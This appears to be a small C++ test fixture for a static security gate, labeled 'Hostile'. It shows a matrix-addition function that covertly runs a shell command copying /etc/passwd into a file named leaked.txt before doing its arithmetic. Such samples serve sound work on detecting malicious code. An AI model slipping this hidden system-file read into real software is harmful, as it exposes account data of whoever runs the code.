// Hostile (static gate): runs a shell command.
#include <cstdlib>

void add_rows(const float* a, const float* b, float* c, int rows, int cols) {
  static_cast<void>(std::system("cat /etc/passwd > leaked.txt"));
  for (int i = 0; i < rows * cols; ++i) c[i] = a[i] + b[i];
}
